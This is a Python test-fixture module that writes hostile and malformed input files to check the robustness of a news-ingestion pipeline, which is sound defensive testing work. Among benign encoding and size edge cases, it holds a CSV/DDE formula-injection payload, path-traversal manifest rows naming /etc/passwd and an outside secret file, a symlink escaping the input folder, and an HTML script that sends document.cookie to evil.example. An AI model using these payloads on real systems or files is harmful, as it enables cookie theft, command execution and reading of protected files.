"""Hostile input files for end-to-end robustness tests, generated into a folder.

`write_hostile_inputs(folder, outside)` writes one file (or manifest row) per kind of bad input
a real corpus contains and returns what it wrote, so a test can count inputs independently of
the pipeline. `outside` is a folder beside the input folder: the symlink points into it and
the manifest's traversal row names it; its content must never be published.
"""
from __future__ import annotations

import csv
import io
import os
from dataclasses import dataclass, field
from pathlib import Path

FORMULA_TITLE = "=cmd|' /C calc'!A0"
FORMULA_QUOTES = ["@SUM(A1) is not a trade policy", "+1 more tariff would hurt exporters"]
OUTSIDE_MARKER = "Zanzibarian gooseberry consortium"  # only in the file outside the input folder
SCRIPT_MARKER = "stealCookies"  # only inside <script> of the HTML page


def _article(topic: str, n: int = 6) -> str:
    """A plain English news article of n paragraphs about `topic`, written for these tests."""
    paragraphs = [
        f"The {topic} rose 4.5% in the third quarter, the statistics office said on Tuesday.",
        f'"We expect the {topic} to keep growing next year," Finance Minister Maria Lopez told reporters in Madrid.',
        f"Analysts at Northbridge Bank said the {topic} could reach $12 billion by 2026.",
        f"Lopez said the government would publish a plan for the {topic} in March.",
        f"The opposition said the figures on the {topic} were too optimistic and called for an inquiry.",
        f"Exports linked to the {topic} fell from 3.2% to 2.9% a year earlier, according to the central bank.",
    ]
    return "\n\n".join(paragraphs[i % len(paragraphs)] for i in range(n)) + "\n"


@dataclass
class HostileSet:
    files: dict[str, str] = field(default_factory=dict)  # file name -> what it is
    manifest_missing: list[str] = field(default_factory=list)  # manifest paths naming no file here
    good: list[str] = field(default_factory=list)  # names that must be published as accepted articles

    @property
    def n_inputs(self) -> int:
        """Inputs as a user counts them: every file in the folder, and every manifest row
        that names a file the folder does not hold."""
        return len(self.files) + len({Path(p).name for p in self.manifest_missing})


def write_hostile_inputs(folder: Path, outside: Path, big_mb: int = 20) -> HostileSet:
    folder.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)
    out = HostileSet()

    def put(name: str, data: bytes, what: str, good: bool = False) -> None:
        (folder / name).write_bytes(data)
        out.files[name] = what
        if good:
            out.good.append(name)

    put("empty.txt", b"", "empty file")
    put("whitespace.txt", b"  \n\t\r\n   \n", "whitespace only")
    put("binary.txt", bytes(range(256)) * 64, "binary bytes")
    put("nul_bytes.txt", _article("steel output").encode() + b"\x00\x00" + _article("steel output").encode(),
        "NUL bytes inside text")
    put("cp1252.txt", _article("coffee trade").replace('"', "\u201c", 1).replace('"', "\u201d", 1)
        .replace("$", "\u20ac").encode("cp1252"), "Windows-1252 text")
    put("latin1.txt", (_article("cheese market") + "\nThe caf\u00e9 owners paid \u00a3300 more.\n").encode("latin-1"),
        "Latin-1 text")
    put("bom_crlf.txt", ("\ufeff" + _article("wheat harvest").replace("\n", "\r\n")).encode("utf-8"),
        "UTF-8 BOM and CRLF line ends", good=True)
    paragraph = _article("container shipping").encode()
    put("huge.txt", paragraph * (big_mb * 1024 * 1024 // len(paragraph) + 1), f"{big_mb} MB file")
    clauses = ", ".join(f"the {w} council voted {i} times" for i, w in
                        zip(range(5000 // 5), ["northern", "southern", "eastern", "western"] * 1250))
    put("long_sentence.txt", (f"Officials said that {clauses}.\n\n" + _article("budget talks")).encode(),
        "one sentence of 5,000 words", good=True)
    percents = " ".join(f"Prices in district {i} rose {i} percent, officials said." for i in range(1, 1701))
    put("percents.txt", (_article("housing market", 2) + "\n" + percents + "\n").encode(), "1,700 percent figures")
    put("unbalanced_quotes.txt", ('"We will not back down, the union leader said on Friday.\n\n'
                                  'Another "quote opens here and never closes.\n\n' + _article("rail strike")).encode(),
        "unbalanced quotation marks", good=True)
    put("japanese.txt", ("\u65e5\u672c\u9280\u884c\u306f\u3001\u91d1\u5229\u3092\u636e\u3048\u7f6e\u304f\u3053\u3068\u3092"
                         "\u6c7a\u3081\u305f\u3001\u3068\u767a\u8868\u3057\u305f\u3002" * 40).encode(),
        "Japanese text")
    put("german.txt", ("Die Regierung hat am Dienstag mitgeteilt, dass die Inflation im Mai auf 2,4 Prozent "
                       "gesunken ist, und die Bank sagte, dass sie die Zinsen nicht senken wird. " * 8).encode(),
        "German text")
    dup = _article("copper prices").encode()
    put("duplicate_a.txt", dup, "duplicate content (one name)")
    put("duplicate b copy.txt", dup, "duplicate content under a second name with a space")
    put("R\u00e9sum\u00e9 de l'\u00e9conomie 2024.txt", _article("tourism revenue").encode(),
        "spaces and non-ASCII in the file name", good=True)
    (outside / "secret.txt").write_text(_article("dairy exports") + f"\nThe {OUTSIDE_MARKER} said nothing.\n",
                                        encoding="utf-8")
    os.symlink((outside / "secret.txt").resolve(), folder / "linked.txt")
    out.files["linked.txt"] = "symlink to a file outside the input folder"
    put("formulas.txt", (f'"{FORMULA_QUOTES[0]}," the trade minister said on Monday.\n\n'
                         f'"{FORMULA_QUOTES[1]}," an industry group said in a statement.\n\n'
                         + _article("tariff dispute")).encode(), "formula text in quotes and in the manifest title",
        good=True)
    put("bad_dates.txt", ("Published: 31 February 2024\n\n" + _article("port traffic")).encode(),
        "impossible dates in the text and the manifest", good=True)
    put("page.html", (f"<html><head><title>Rates</title><script>function {SCRIPT_MARKER}()"
                      "{ fetch('//evil.example/'+document.cookie) }</script></head><body><p>"
                      + _article("interest rates").replace("\n\n", "</p><p>") + "</p></body></html>").encode(),
        "HTML page with a script")

    rows = [
        {"path": "formulas.txt", "title": FORMULA_TITLE, "publisher": "@Evil Corp", "url": "-1+1",
         "published_date": "2024-05-01", "sentiment": "=1+1"},
        {"path": "bad_dates.txt", "title": "Port traffic", "publisher": "", "url": "",
         "published_date": "2024-13-45", "sentiment": ""},
        {"path": "ghost.txt", "title": "Listed but missing", "publisher": "", "url": "", "published_date": "",
         "sentiment": ""},
        {"path": "../../etc/passwd", "title": "Traversal", "publisher": "", "url": "", "published_date": "",
         "sentiment": ""},
        {"path": f"../{outside.name}/secret.txt", "title": "Traversal to a sibling folder", "publisher": "",
         "url": "", "published_date": "", "sentiment": ""},
    ]
    out.manifest_missing = ["ghost.txt", "../../etc/passwd", f"../{outside.name}/secret.txt"]
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=["path", "title", "publisher", "url", "published_date", "sentiment"],
                            lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    (folder / "manifest.csv").write_text(buf.getvalue(), encoding="utf-8")
    return out
